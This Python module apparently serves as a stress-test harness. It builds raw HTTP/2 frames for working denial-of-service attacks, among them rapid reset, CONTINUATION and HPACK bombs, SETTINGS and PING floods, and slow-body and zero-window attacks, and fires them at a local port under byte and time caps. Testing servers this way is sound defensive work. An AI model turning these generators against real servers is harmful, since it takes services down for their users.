"""Attacks by HTTP/2, in raw frames: no client library would send these."""

import asyncio
import contextlib
import struct

DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# What one attacker sends at most, in bytes.
MOST = 4_000_000
# Streams that lamed answers at once on a connection.
STREAMS = 100


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value):
    return bytes([len(value)]) + value


def head(path, post=False):
    """In HPACK's words: method, scheme, authority, path."""
    return (b"\x83" if post else b"\x82") + b"\x86\x01" + text(b"h") + b"\x04" + text(path)


def streams():
    return range(1, 1 << 24, 2)


def opening(*settings):
    """The beginning of a connection, with settings as pairs of number and value."""
    return PREFACE + frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *setting) for setting in settings))


# Each gives the pieces that one connection sends.


def rapid_resets():
    """Requests that are taken back at once."""
    yield opening()
    for stream in streams():
        yield (frame(HEADERS, END_STREAM | END_HEADERS, stream, head(b"/dashboard"))
               + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))


def resets_by_errors():
    """Requests that the server has to take back: their windows grow beyond what is allowed."""
    yield opening()
    for stream in streams():
        yield (frame(HEADERS, END_STREAM | END_HEADERS, stream, head(b"/dashboard"))
               + frame(8, 0, stream, struct.pack(">I", 0x7FFF_FFFF)))


def continuations():
    """A head that never ends."""
    yield opening()
    yield frame(HEADERS, END_STREAM, 1, head(b"/healthz"))
    while True:
        yield frame(CONTINUATION, 0, 1, (b"\x00" + text(b"x-flood") + text(b"y" * 100)) * 140)


def empty_continuations():
    """The same, of nothing."""
    yield opening()
    yield frame(HEADERS, END_STREAM, 1, head(b"/healthz"))
    while True:
        yield frame(CONTINUATION, 0, 1) * 1_000


def half_heads():
    """As much of a head as is taken, and then nothing."""
    yield opening()
    yield frame(HEADERS, END_STREAM, 1, head(b"/healthz"))
    for _ in range(2):
        yield frame(CONTINUATION, 0, 1, (b"\x00" + text(b"x-flood") + text(b"y" * 100)) * 140)


def hpack_bomb():
    """Names of one byte each that stand for long headers of the table."""
    yield opening()
    long = b"\x40" + text(b"x") + b"\x7f\xa1\x1e" + b"y" * 4_000
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, head(b"/healthz") + long)
    for stream in range(3, 2 * STREAMS, 2):
        yield frame(HEADERS, END_HEADERS, stream, head(b"/prod/track", True) + b"\xbe" * 7)
    for stream in range(2 * STREAMS + 1, 2 * STREAMS + 100, 2):
        yield frame(HEADERS, END_HEADERS, stream, head(b"/prod/track", True) + b"\xbe" * 16_000)


def settings_flood():
    """Settings without end, whose acknowledgements nobody reads."""
    yield opening()
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 200


def pings():
    """The same of pings."""
    yield opening()
    while True:
        yield frame(PING, 0, 0, b"12345678") * 200


def open_bodies():
    """As many bodies at once as may be, none of which ends."""
    yield opening()
    for stream in range(1, 2 * STREAMS, 2):
        yield frame(HEADERS, END_HEADERS, stream, head(b"/prod/track", True))
    for stream in range(1, 2 * STREAMS, 2):
        yield frame(DATA, 0, stream, b" " * 650)


def small_pieces():
    """Bodies in pieces of one byte."""
    yield opening()
    for stream in range(1, 2 * STREAMS, 2):
        yield frame(HEADERS, END_HEADERS, stream, head(b"/prod/track", True))
    for _ in range(650):
        for stream in range(1, 2 * STREAMS, 2):
            yield frame(DATA, 0, stream, b" ")


def empty_pieces():
    """Bodies in pieces of nothing."""
    yield opening()
    yield frame(HEADERS, END_HEADERS, 1, head(b"/prod/track", True))
    while True:
        yield frame(DATA, 0, 1) * 1_000


def no_window():
    """As many answers as may be, the longest that there are, none of which is read."""
    yield opening((4, 0))
    for stream in range(1, 2 * STREAMS, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, head(b"/dashboard"))


def small_windows():
    """The same, one byte at a time."""
    yield opening((4, 1))
    for stream in range(1, 2 * STREAMS, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, head(b"/dashboard"))
    while True:
        for stream in range(1, 2 * STREAMS, 2):
            yield frame(8, 0, stream, struct.pack(">I", 1))


# Each, and whether the attacker reads what comes.
ATTACKS = {
    rapid_resets: True, resets_by_errors: True, continuations: False, empty_continuations: False, half_heads: True,
    hpack_bomb: False, settings_flood: False, pings: False, open_bodies: True, small_pieces: True,
    empty_pieces: True, no_window: True, small_windows: True,
}


async def attacker(port, attack, seconds):
    """Sends until it is closed, or has sent enough, and holds the connection until then. Gives the bytes."""
    reader, writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port, limit=1024), 5)
    reading = asyncio.create_task(read_all(reader)) if ATTACKS[attack] else None
    sent, end = 0, asyncio.get_running_loop().time() + seconds
    try:
        async with asyncio.timeout_at(end):
            for piece in attack():
                writer.write(piece)
                sent += len(piece)
                if sent > MOST:
                    break
                await writer.drain()
                # Others have their turn.
                await asyncio.sleep(0)
            await asyncio.Event().wait()
    except (OSError, TimeoutError):
        pass
    finally:
        if reading:
            reading.cancel()
        writer.transport.abort()
    return sent


async def read_all(reader):
    with contextlib.suppress(OSError):
        while await reader.read(65_536):
            pass


async def wave(port, attack, connections, seconds):
    """All at once; gives how many bytes they sent."""
    attackers = [attacker(port, attack, seconds) for _ in range(connections)]
    return sum(sent for sent in await asyncio.gather(*attackers, return_exceptions=True) if isinstance(sent, int))
